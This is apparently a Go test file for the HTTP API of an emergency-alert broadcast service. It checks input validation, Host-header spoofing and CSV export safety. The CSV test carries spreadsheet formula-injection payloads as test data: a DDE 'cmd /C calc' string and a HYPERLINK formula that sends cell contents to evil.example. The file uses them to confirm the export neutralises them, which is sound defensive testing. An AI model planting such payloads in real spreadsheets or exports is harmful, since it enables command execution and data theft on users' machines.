package httpapi_test

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"io"
	"net/http"
	"strings"
	"testing"

	"github.com/tocsin-dev/tocsin/internal/demo"
	"github.com/tocsin-dev/tocsin/internal/httpapi"
	"github.com/tocsin-dev/tocsin/internal/tocsin"
)

// hugeReason is the review's 900 KB reason: under the body limit, far over
// any field's.
var hugeReason = strings.Repeat("理由", 450*1024/3)

// Oversized and dirty input, per field, through the API: 422
// validation_failed naming the field, and nothing changed.
func TestDirtyInput(t *testing.T) {
	api := newTestAPI(t)
	pending := api.file(t, "gd-met", ordinary(onTime, "440100"))
	released := api.file(t, "gd-met", emergency("440100"))
	reported := api.file(t, "gd-met", emergency("440100"))
	if res := api.post(t, "gd-met", broadcasts+"/"+reported.ID+"/post-hoc", map[string]any{"report": "landfall at 21:40"}); res.Status != http.StatusOK {
		t.Fatalf("post-hoc: %s", res)
	}
	withEmergency := func(k, v string) map[string]any {
		f := emergency("440100")
		e := map[string]any{"type": "natural_disaster", "event": "typhoon", "level": "red"}
		e[k] = v
		f["emergency"] = e
		return f
	}
	tests := []struct {
		name, org, path string
		body            any
		field           string
	}{
		{"title too long", "gd-met", broadcasts, with(emergency("440100"), "title", strings.Repeat("题", tocsin.MaxTitleChars+1)), "title"},
		{"title with NUL", "gd-met", broadcasts, with(emergency("440100"), "title", "台风\u0000预警"), "title"},
		{"title with a bidi override", "gd-met", broadcasts, with(emergency("440100"), "title", "预警\u202egnp.exe"), "title"},
		{"title zero-width only", "gd-met", broadcasts, with(emergency("440100"), "title", "\u200b\u200d"), "title"},
		{"content with NUL", "gd-met", broadcasts, with(emergency("440100"), "content", "请留在\u0000室内"), "content"},
		{"content with a control", "gd-met", broadcasts, with(emergency("440100"), "content", "请留在\u001b室内"), "content"},
		{"content with DEL", "gd-met", broadcasts, with(emergency("440100"), "content", "请留在\u007f室内"), "content"},
		{"content with an isolate", "gd-met", broadcasts, with(emergency("440100"), "content", "请拨打\u2066110\u2069"), "content"},
		{"content zero-width only", "gd-met", broadcasts, with(emergency("440100"), "content", "\u200b\ufeff\u2060"), "content"},
		{"content huge", "gd-met", broadcasts, with(emergency("440100"), "content", hugeReason), "content"},
		{"event too long", "gd-met", broadcasts, withEmergency("event", strings.Repeat("e", tocsin.MaxEventChars+1)), "emergency.event"},
		{"event with an override", "gd-met", broadcasts, withEmergency("event", "typhoon\u202e"), "emergency.event"},
		{"justification huge", "gd-met", broadcasts, withEmergency("justification", hugeReason), "emergency.justification"},
		{"correction with NUL", "gd-met", broadcasts + "/" + released.ID + "/update", with(emergency("440100"), "content", "更正\u0000"), "content"},
		{"reject reason huge", "gd-cab", broadcasts + "/" + pending.ID + "/reject", map[string]any{"reason_code": "other", "reason": hugeReason}, "reason"},
		{"reject reason with an override", "gd-cab", broadcasts + "/" + pending.ID + "/reject", map[string]any{"reason_code": "other", "reason": "\u202dads"}, "reason"},
		{"withdraw reason huge", "gd-met", broadcasts + "/" + pending.ID + "/withdraw", map[string]any{"reason": hugeReason}, "reason"},
		{"cancel reason huge", "gd-cab", broadcasts + "/" + released.ID + "/cancel", map[string]any{"reason": hugeReason}, "reason"},
		{"cancel reason with NUL", "gd-cab", broadcasts + "/" + released.ID + "/cancel", map[string]any{"reason": "wrong\u0000"}, "reason"},
		{"post-hoc report huge", "gd-met", broadcasts + "/" + released.ID + "/post-hoc", map[string]any{"report": strings.Repeat("报", tocsin.MaxReportChars+1)}, "report"},
		{"review note huge", "gd-cab", broadcasts + "/" + reported.ID + "/post-hoc/review", map[string]any{"verdict": "not_emergency", "note": hugeReason}, "note"},
		{"organisation name huge", "admin", "/api/v1/organisations", map[string]any{"id": "sc-met", "name": hugeReason, "role": "regulator", "level": "national", "jurisdiction": "national"}, "name"},
		{"organisation name with a newline", "admin", "/api/v1/organisations", map[string]any{"id": "sc-met", "name": "Sichuan\nMet", "role": "regulator", "level": "national", "jurisdiction": "national"}, "name"},
		{"organisation id reserved", "admin", "/api/v1/organisations", map[string]any{"id": "tocsin", "name": "Tocsin", "role": "regulator", "level": "national", "jurisdiction": "national"}, "id"},
		{"organisation id of the consumer", "admin", "/api/v1/organisations", map[string]any{"id": "tocsin-coordinator", "name": "x", "role": "regulator", "level": "national", "jurisdiction": "national"}, "id"},
		{"organisation id invalid", "admin", "/api/v1/organisations", map[string]any{"id": "9-lives", "name": "x", "role": "regulator", "level": "national", "jurisdiction": "national"}, "id"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := api.post(t, tt.org, tt.path, tt.body)
			e := wantError(t, res, http.StatusUnprocessableEntity, tocsin.CodeValidation)
			if e.Details["field"] != tt.field {
				t.Errorf("field = %v, want %s; body %.300s", e.Details["field"], tt.field, res.Body)
			}
			if len(e.Message) > 300 {
				t.Errorf("message is %d bytes long", len(e.Message))
			}
		})
	}
	// Nothing changed: the broadcasts are as they were, and the refused
	// organisations do not exist.
	for _, b := range []broadcast{pending, released} {
		got := decode[broadcast](t, api.get(t, "admin", broadcasts+"/"+b.ID))
		if got.Status != b.Status || got.Closure != nil || got.Review != nil {
			t.Errorf("%s is now %s (%+v, %+v)", b.ID, got.Status, got.Closure, got.Review)
		}
	}
	if n := len(decode[struct {
		Broadcasts []broadcast `json:"broadcasts"`
	}](t, api.get(t, "admin", broadcasts)).Broadcasts); n != 3 {
		t.Errorf("%d broadcasts, want the 3 filed", n)
	}
	orgs := string(api.get(t, "admin", "/api/v1/organisations").Body)
	for _, id := range []string{`"sc-met"`, `"tocsin"`, `"tocsin-coordinator"`, `"9-lives"`} {
		if strings.Contains(orgs, id) {
			t.Errorf("organisation %s was stored", id)
		}
	}
}

// getWithHost fetches path as a client that claims another Host, scheme
// and forwarded host.
func (api *testAPI) getWithHost(t *testing.T, path, host string) response {
	t.Helper()
	r, err := http.NewRequest(http.MethodGet, api.URL+path, nil)
	if err != nil {
		t.Fatal(err)
	}
	r.Host = host
	r.Header.Set("X-Forwarded-Host", host)
	r.Header.Set("X-Forwarded-Proto", "https")
	res, err := api.client.Do(r)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	body, err := io.ReadAll(res.Body)
	if err != nil {
		t.Fatal(err)
	}
	return response{Status: res.StatusCode, Header: res.Header, Body: body}
}

// CAP and Atom documents are public and cached: their links come from
// --public-url, or the address the server accepted the connection on,
// never from the Host header a client sends.
func TestLinksNeverFromHost(t *testing.T) {
	const evil = "evil.example"
	for _, tt := range []struct {
		name   string
		public string
	}{
		{"without a public URL", ""},
		{"with a public URL", "https://alerts.example.gov.cn/tocsin"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			api := newTestAPI(t, func(s *httpapi.Server) { s.PublicURL = tt.public })
			base := tt.public
			if base == "" {
				base = api.URL // http://127.0.0.1:port, where the test server listens
			}
			em := api.file(t, "gd-met", emergency("440100"))
			for _, path := range []string{broadcasts + "/" + em.ID + "/cap", "/feeds/alerts.atom"} {
				res := api.getWithHost(t, path, evil)
				if res.Status != http.StatusOK {
					t.Fatalf("GET %s: %s", path, res)
				}
				if strings.Contains(string(res.Body), evil) {
					t.Errorf("%s reflects the Host header:\n%s", path, res.Body)
				}
				if !strings.Contains(string(res.Body), base+"/") {
					t.Errorf("%s does not link to %s:\n%s", path, base, res.Body)
				}
			}
			a := api.getCAP(t, "", em.ID)
			host := strings.Split(strings.TrimPrefix(strings.TrimPrefix(base, "https://"), "http://"), "/")[0]
			host = strings.Split(host, ":")[0]
			if a.Sender != "gd-met@"+host {
				t.Errorf("sender = %q, want gd-met@%s", a.Sender, host)
			}
		})
	}
}

// The regulator's client address stays in the trail for regulators and
// the admin; a department's view of the timeline has none.
func TestTimelineSourceHiddenFromDepartments(t *testing.T) {
	api := newTestAPI(t)
	b := api.file(t, "gd-met", ordinary(onTime, "440100"))
	wantBroadcast(t, api.post(t, "gd-cab", broadcasts+"/"+b.ID+"/approve", map[string]any{}), http.StatusOK, tocsin.StatusApproved)
	for _, tt := range []struct {
		org  string
		sees bool
	}{{"gd-met", false}, {"gd-cab", true}, {"admin", true}} {
		t.Run(tt.org, func(t *testing.T) {
			res := api.get(t, tt.org, broadcasts+"/"+b.ID)
			var v struct {
				Timeline []map[string]any `json:"timeline"`
			}
			if err := json.Unmarshal(res.Body, &v); err != nil || len(v.Timeline) == 0 {
				t.Fatalf("detail %s: %v", res, err)
			}
			sources := 0
			for _, en := range v.Timeline {
				if _, ok := en["source"]; ok {
					sources++
				}
			}
			if tt.sees && sources == 0 {
				t.Errorf("%s sees no client address", tt.org)
			}
			if !tt.sees && (sources > 0 || strings.Contains(string(res.Body), "127.0.0.1:")) {
				t.Errorf("%s sees client addresses: %s", tt.org, res.Body)
			}
		})
	}
}

// The CSV export neutralises formula-leading cells from department
// content, event text, agency names and provider detail, and offers a BOM.
func TestRecordsCSVNeutralisesFormulas(t *testing.T) {
	api := newTestAPI(t)
	ctx := context.Background()
	mem, _ := demo.Organisation("mem")
	mem.NameZH = "@SUM(1+1)*cmd|' /C calc'!A0" // the agency messages carry
	if err := api.Service.PutOrganisation(ctx, mem, nil); err != nil {
		t.Fatal(err)
	}
	f := emergency("440100")
	f["content"] = `=HYPERLINK("http://evil.example/?"&A1,"详情")`
	f["emergency"] = map[string]any{"type": "natural_disaster", "event": "+typhoon", "level": "red"}
	em := api.file(t, "gd-met", f)
	api.file(t, "mem", with(emergency("440100"), "content", "-1+1 请留在室内"))
	if err := api.Service.ApplyReceipt(ctx, "cmcc", tocsin.Receipt{BroadcastID: em.ID, Status: "failed", Recipients: 1, Sent: 1, Failed: 1,
		Detail: "@cmd /c calc"}); err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct {
		query string
		bom   bool
	}{{"", false}, {"&bom=true", true}, {"&bom=false", false}} {
		t.Run("bom="+tt.query, func(t *testing.T) {
			res := api.get(t, "admin", "/api/v1/records?from=2026-09-01&to=2026-09-30&format=csv"+tt.query)
			if res.Status != http.StatusOK {
				t.Fatalf("export: %s", res)
			}
			body := string(res.Body)
			if got := strings.HasPrefix(body, "\ufeff"); got != tt.bom {
				t.Fatalf("BOM = %v, want %v", got, tt.bom)
			}
			rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff"))).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if len(rows) < 3 || rows[0][0] != "broadcast_id" {
				t.Fatalf("export has %d rows; header %v", len(rows), rows[0])
			}
			quoted := map[string]bool{}
			for _, row := range rows[1:] {
				for _, cell := range row {
					if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
						t.Errorf("cell %q would be read as a formula", cell)
					}
					if strings.HasPrefix(cell, "'") {
						quoted[cell[1:]] = true
					}
				}
			}
			for _, want := range []string{f["content"].(string), "+typhoon", "@SUM(1+1)*cmd|' /C calc'!A0", "@cmd /c calc", "-1+1 请留在室内"} {
				if !quoted[want] {
					t.Errorf("no cell holds '%s", want)
				}
			}
		})
	}
	wantError(t, api.get(t, "admin", "/api/v1/records?from=2026-09-01&to=2026-09-30&bom=maybe"), http.StatusUnprocessableEntity, tocsin.CodeValidation)
}
